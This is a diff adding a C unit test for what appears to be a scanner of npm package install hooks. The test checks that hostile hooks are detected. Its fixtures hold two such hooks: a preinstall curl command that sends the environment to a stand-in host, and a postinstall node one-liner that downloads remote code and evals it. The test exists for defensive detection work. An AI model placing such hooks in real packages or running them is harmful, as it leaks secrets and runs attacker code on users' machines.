@@ -230,6 +230,24 @@ static void command_files(void **state)
 	assert_str(command_program(STR("A=1 /usr/bin/curl x")), "curl");
 }
 
+/* The command is read as the script that it is, at its place. */
+static void hooks_are_scripts(void **state)
+{
+	struct member *m = read_package("{\"name\":\"x\"}", "{\"name\":\"x\",\n\"scripts\":{\n\"preinstall\":"
+		"\"curl -s -d \\\"$(env)\\\" https://collect.example/i\"}}");
+	const struct fact *f = member_find(m, FACT_FLOW, "env>net");
+
+	assert_non_null(f);
+	assert_int_equal(f->line, 3);
+	member_free(m);
+	m = read_package("{\"name\":\"x\"}", "{\"name\":\"x\",\n\"scripts\":{\n\"postinstall\":"
+		"\"node -e \\\"require('https').get('https://collect.example/c',r=>r.on('data',d=>eval(d.toString())))\\\"\"}}");
+	f = member_find(m, FACT_FLOW, "net>code");
+	assert_non_null(f);
+	assert_int_equal(f->line, 3);
+	member_free(m);
+}
+
 static void specs(void **state)
 {
 	static const struct {
@@ -270,7 +288,7 @@ int main(void)
 		cmocka_unit_test(version_bump_says_the_version), cmocka_unit_test(formatting_says_nothing), cmocka_unit_test(new_hook),
 		cmocka_unit_test(hook_changed_kept_removed), cmocka_unit_test(scripts_that_are_no_hooks),
 		cmocka_unit_test(dependencies_added_and_changed), cmocka_unit_test(who_and_what_starts), cmocka_unit_test(duplicate_keys),
-		cmocka_unit_test(commands), cmocka_unit_test(command_files), cmocka_unit_test(specs), cmocka_unit_test(malformed),
+		cmocka_unit_test(commands), cmocka_unit_test(command_files), cmocka_unit_test(specs), cmocka_unit_test(hooks_are_scripts), cmocka_unit_test(malformed),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
